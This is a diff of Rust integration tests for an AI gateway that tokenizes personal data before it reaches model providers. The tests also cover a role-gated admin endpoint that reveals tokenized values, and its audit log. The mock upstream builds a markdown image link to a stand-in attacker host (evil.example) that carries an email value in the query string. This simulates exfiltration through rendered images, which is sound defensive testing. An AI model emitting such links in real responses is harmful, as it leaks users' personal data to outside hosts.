@@ -23,7 +23,8 @@ fn parrot(asked: &Asked) -> Reply {
         }
     }
     all.push_str("![x](https://evil.example/?q=");
-    all.push_str(token(&all, "EMAIL"));
+    let mail = token(&all, "EMAIL").to_owned();
+    all.push_str(&mail);
     all.push(')');
     let usage = json!({"input_tokens": 9, "output_tokens": 9});
     match (asked.path.as_str(), body["stream"] == json!(true)) {
@@ -135,6 +136,7 @@ const RULE: &str = "find = \"personal-data\"\nin = \"prompt\"\ndo = \"tokenize\"
 fn the_provider_sees_stand_ins_and_the_caller_sees_values() {
     let upstream = Upstream::start(parrot);
     let plan = Plan::new().target("openai", &upstream, &["m"]).target("anthropic", &upstream, &["c"]).rule(RULE);
+    let plan = plan.policy("@id(\"all\") permit (principal, action, resource);");
     let home = plan.guard("values_shown_to = [\"staff\"]").write();
     let (staff, other, clerk) = (home.key("agent", "staff"), home.key("agent-2", "staff"), home.key("clerk", "desk"));
     let gateway = home.serve();
@@ -160,7 +162,7 @@ fn the_provider_sees_stand_ins_and_the_caller_sees_values() {
     // One conversation, one stand-in, whatever format and way; another caller's has another.
     assert!(seen_tokens.iter().all(|token| *token == seen_tokens[0]), "{seen_tokens:?}");
     let (path, body) = ask(false, false);
-    gateway.post(path, &other, &body);
+    assert_eq!(gateway.post(path, &other, &body).status, 200);
     let sent = upstream.seen().pop().unwrap().text();
     assert!(!sent.contains(&seen_tokens[0]) && !holds_a_value(&sent), "{sent}");
     // The other one's stand-in means nothing here.
@@ -210,3 +212,49 @@ fn those_that_last_are_the_same_for_everyone_in_the_tenant() {
     assert_eq!(sent[0], sent[1]);
     assert!(sent[0].contains("[EMAIL_v1:") && !holds_a_value(&sent[0]), "{}", sent[0]);
 }
+
+#[test]
+fn what_lasts_is_revealed_by_role_and_on_record() {
+    let upstream = Upstream::start(parrot);
+    let plan = Plan::new().target("openai", &upstream, &["m"]).admin();
+    let plan = plan.rule("find = \"personal/email\"\nin = \"prompt\"\ndo = \"tokenize\"\nas = \"deterministic\"");
+    let plan = plan.rule("find = \"personal/card\"\nin = \"prompt\"\ndo = \"tokenize\"\nas = \"format\"");
+    let home = plan.policy(POLICY).write();
+    let (staff, root) = (home.key("one", "staff"), home.key("keeper", "root"));
+    let gateway = home.serve();
+    let (path, body) = ask(false, false);
+    assert_eq!(gateway.post(path, &staff, &body).status, 200);
+    let sent = upstream.seen().pop().unwrap().json();
+    let sent = sent["messages"][0]["content"].as_str().unwrap();
+    let (mail, card) = (token(sent, "EMAIL"), &sent["Card ".len().."Card ".len() + CARD.len()]);
+    let tenant = "default";
+    let reveal = |key: &str, token: &str, number_of: Option<&str>| {
+        let mut asked = json!({"tenant": tenant, "token": token});
+        number_of.map(|name| asked["number_of"] = name.into());
+        let answer = gateway.post("/admin/v1/reveal", key, &asked);
+        (answer.status, serde_json::from_str::<Value>(&answer.text()).unwrap_or_default())
+    };
+    assert_eq!(reveal(&root, mail, None), (200, json!({"entity": "EMAIL", "value": MAIL})));
+    assert_eq!(reveal(&root, card, Some("CREDIT_CARD")), (200, json!({"entity": "CREDIT_CARD", "value": CARD})));
+    assert_eq!(reveal(&root, "[EMAIL_v1:aaaaaaaa]", None).0, 404);
+    assert_eq!(reveal(&root, card, Some("PET")).0, 400);
+    assert_eq!(reveal(&staff, mail, None).0, 403);
+    let (_, home) = gateway.stop();
+    assert!(home.must(&["vault", "reveal", mail, "--tenant", tenant]).contains(MAIL));
+    let other = home.run(&["vault", "reveal", mail, "--tenant", "other"]);
+    assert!(!other.status.success() && !holds_a_value(&String::from_utf8_lossy(&other.stdout)));
+    // What was done beside the gateway is taken in when it starts.
+    let (_, home) = home.serve().stop();
+    let records = home.must(&["audit", "export"]);
+    assert_eq!(records.matches("\"action\":\"reveal\"").count(), 3, "{records}");
+    assert!(!holds_a_value(&records) && leaks(home.scratch()).is_empty());
+}
+
+const POLICY: &str = r#"
+@id("staff") permit (
+    principal in Countersign::Role::"staff",
+    action in [Countersign::Action::"ask", Countersign::Action::"receive"],
+    resource
+);
+@id("root") permit (principal in Countersign::Role::"root", action == Countersign::Action::"reveal", resource);
+"#;
